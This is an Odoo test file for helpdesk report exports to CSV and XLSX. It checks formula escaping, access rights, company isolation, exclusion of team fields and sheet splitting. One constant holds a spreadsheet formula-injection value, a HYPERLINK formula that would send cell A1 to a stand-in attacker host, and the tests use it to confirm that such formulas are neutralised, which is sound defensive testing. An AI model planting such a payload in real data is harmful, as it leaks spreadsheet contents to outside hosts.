import csv
import io
import json
from unittest.mock import patch

from odoo import http
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger
from openpyxl import load_workbook

from ..report import helpdesk_report_export
from .common import ReportsCommon

EVIL = '=HYPERLINK("http://attack.test/"&A1,"click")'


@tagged('post_install', '-at_install')
class TestHelpdeskExport(ReportsCommon, HttpCase):
    """All rows of a report as a file (D19), without formulas (G20, A43), and only what the reader may see."""

    def setUp(self):
        super().setUp()
        self.env.ref('base.group_allow_export').user_ids |= self.leader | self.agent_b
        self.evil, self.plain = self.ticket(name=EVIL), self.a_story()
        self.foreign = self.ticket(name="Not yours", team_id=self.team_private.id)
        self.read_log()

    def export(self, kind, user=None, domain=None, model='helpdesk.ticket.report'):
        user = user or self.leader
        self.authenticate(user.login, user.login.ljust(8, 'x'))
        return self.url_open(f'/helpdesk/export/{model}/{kind}', data={
            'csrf_token': http.Request.csrf_token(self), 'domain': json.dumps(
                domain if domain is not None else [('team_id', 'in', self.teams.ids)])})

    def rows(self, response):
        return list(csv.DictReader(io.StringIO(response.content.decode('utf-8-sig'))))

    def test_csv(self):
        response = self.export('csv')
        self.assertIn('attachment', response.headers['Content-Disposition'])
        rows = {row['Number']: row for row in self.rows(response)}
        self.assertEqual(set(rows), {self.evil.number, self.plain.number})
        self.assertEqual(rows[self.evil.number]['Subject'], "'" + EVIL)
        row = rows[self.plain.number]
        self.assertEqual((row['Team'], row['Assignee'], row['Status']), ("Repairs", "Hd Agent 2", "Solved"))
        self.assertEqual(row['Solved'], '2026-03-04 16:00:00')  # in the reader's zone
        self.assertEqual(row['Solution (working h)'], '5.0')
        self.assertNotIn('False', response.text)

    def test_fields_of_teams_are_left_out(self):
        """Each team has its own, and some are notes of agents: the ticket list exports them, no report does (D19)."""
        self.team.ticket_properties = [{'name': 'serial', 'type': 'char', 'string': "Serial Number"}]
        self.plain.ticket_properties = {'serial': 'SN-4711'}
        self.env.flush_all()
        for kind, model in (('csv', 'helpdesk.ticket.report'), ('csv', 'helpdesk.sla.report')):
            response = self.export(kind, model=model)
            self.assertIn(self.plain.number if model == 'helpdesk.ticket.report' else "Number", response.text)
            self.assertNotIn('SN-4711', response.text)
            self.assertNotIn("Serial Number", response.text)
        self.assertEqual(self.plain.with_user(self.leader).export_data(['ticket_properties.serial'])['datas'],
                         [['SN-4711']])

    def test_xlsx(self):
        with patch.object(helpdesk_report_export, 'BATCH', 1):
            sheet = load_workbook(io.BytesIO(self.export('xlsx').content)).active
        heading = [cell.value for cell in sheet[1]]
        names = {row[heading.index("Subject")].value: row for row in sheet.iter_rows(min_row=2)}
        self.assertEqual(set(names), {"'" + EVIL, "Drill is silent"})
        cell = names["Drill is silent"][heading.index("Solved")]
        self.assertEqual((cell.is_date, str(cell.value)), (True, '2026-03-04 16:00:00'))
        self.assertEqual(names["Drill is silent"][heading.index("Solution (working h)")].value, 5)

    def test_more_rows_than_a_sheet_takes(self):
        with patch.object(helpdesk_report_export, 'SHEET', 1):
            book = load_workbook(io.BytesIO(self.export('xlsx').content))
        self.assertEqual([sheet.max_row for sheet in book.worksheets], [2, 2])
        self.assertEqual({sheet['A1'].value for sheet in book.worksheets}, {"Number"})

    def test_pieces_lose_nothing(self):
        with patch.object(helpdesk_report_export, 'BATCH', 1):
            self.assertEqual(len(self.rows(self.export('csv'))), 2)

    def test_promises(self):
        rows = self.rows(self.export('csv', model='helpdesk.sla.report'))
        self.assertEqual({(row['Number'], row['Promise'], row['Result']) for row in rows if row['Result'] == 'Kept'}, {
            (self.plain.number, "First answer", "Kept"), (self.plain.number, "Resolution", "Kept")})

    def test_filters_hold(self):
        self.assertEqual(len(self.rows(self.export('csv', domain=[('number', '=', self.plain.number)]))), 1)

    def test_another_company(self):
        self.assertEqual(self.rows(self.export('csv', user=self.agent_b)), [])

    @mute_logger('odoo.http', 'odoo.addons.base.models.ir_model', 'odoo.models')
    def test_refused(self):
        self.assertNotEqual(self.export('csv', user=self.agent).status_code, 200)  # may not export
        self.env.ref('base.group_allow_export').user_ids |= self.employee
        for response in (self.export('csv', user=self.employee), self.export('csv', model='res.users'),
                         self.export('exe'), self.export('csv', domain='nonsense'),
                         self.export('csv', domain=[('nothing', '=', 1)])):
            self.assertNotEqual(response.status_code, 200)
            self.assertNotIn(EVIL, response.text)
        self.authenticate(None, None)
        self.assertNotIn(EVIL, self.url_open(
            '/helpdesk/export/helpdesk.ticket.report/csv', data={'domain': '[]'}).text)
